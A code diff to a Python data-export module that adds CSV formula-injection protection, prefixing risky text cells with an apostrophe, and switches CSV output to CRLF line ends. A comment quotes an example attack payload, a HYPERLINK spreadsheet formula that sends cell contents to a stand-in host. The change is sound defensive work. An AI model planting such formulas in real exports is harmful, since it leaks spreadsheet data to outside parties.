@@ -8,7 +8,8 @@ gives byte-identical files that researchers can checksum and cite.
 * JSONL keeps nesting (lists, structs) as JSON; dates and datetimes as ISO strings.
 * CSV has one header row; lists and structs are JSON text in their cell, ``None`` is an
   empty cell (records never hold empty strings, so the two cannot be confused), booleans are
-  ``true``/``false``.
+  ``true``/``false``. Text cells that a spreadsheet would run as a formula are neutralised
+  (``neutralise_formula``); JSONL and Parquet keep every text exactly as archived.
 * Parquet uses real types (``date32``, UTC timestamps, lists, list<struct>) and carries each
   column's description in its field metadata.
 """
@@ -74,9 +75,37 @@ def write_jsonl(rows: Rows, schema: ExportSchema, path: Path) -> int:
     return count
 
 
+#: First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
+#: (OWASP "CSV Injection": = + - @ tab CR), plus their full-width forms, which East Asian
+#: spreadsheet locales also accept. Question text is typed by the public, so a title such as
+#: ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` must not run when a CSV is opened.
+FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
+#: Prefixed to a neutralised cell; a spreadsheet shows the rest as plain text.
+FORMULA_GUARD = "'"
+#: What the manifest of a CSV export says about the guard, so a reader can undo it.
+CSV_FORMULA_GUARD_NOTE = (
+    "text cells starting with = + - @ TAB CR (or their full-width forms) or with ' are "
+    "prefixed with one ' so spreadsheets do not run them as formulas; to get the archived "
+    "text back, drop the first character of every text cell that starts with '"
+)
+
+
+def neutralise_formula(text: str) -> str:
+    """``text`` with a ``'`` in front when a spreadsheet would treat it as a formula.
+
+    Text that already starts with ``'`` is prefixed too, so the rule is reversible without
+    ambiguity: drop one leading ``'`` from any text cell that has one.
+    """
+    if text and (text[0] in FORMULA_TRIGGERS or text[0] == FORMULA_GUARD):
+        return FORMULA_GUARD + text
+    return text
+
+
 def _csv_cell(value: Any) -> str:
     if value is None:
         return ""
+    if isinstance(value, str):
+        return neutralise_formula(value)
     if isinstance(value, bool):
         return "true" if value else "false"
     if isinstance(value, list | dict):
@@ -89,10 +118,17 @@ def _csv_cell(value: Any) -> str:
 
 
 def write_csv(rows: Rows, schema: ExportSchema, path: Path) -> int:
-    """RFC 4180 quoting with ``\\n`` line ends; multi-line text stays inside quoted cells."""
+    """RFC 4180: CRLF line ends, multi-line text inside quoted cells.
+
+    CRLF, not ``\\n``: the csv module quotes a field only for the characters of its line
+    terminator, so with ``\\n`` a text holding a bare CR went out unquoted and split its row.
+
+    Only text values are guarded against formula injection: numbers, dates and booleans are
+    written by us, and JSON cells start with ``[`` or ``{``.
+    """
     count = 0
     with path.open("w", encoding="utf-8", newline="") as handle:
-        writer = csv.writer(handle, lineterminator="\n")
+        writer = csv.writer(handle, lineterminator="\r\n")
         writer.writerow(schema.names)
         for count, row in enumerate(rows, start=1):
             writer.writerow([_csv_cell(v) for v in schema.check_row(row, count - 1)])
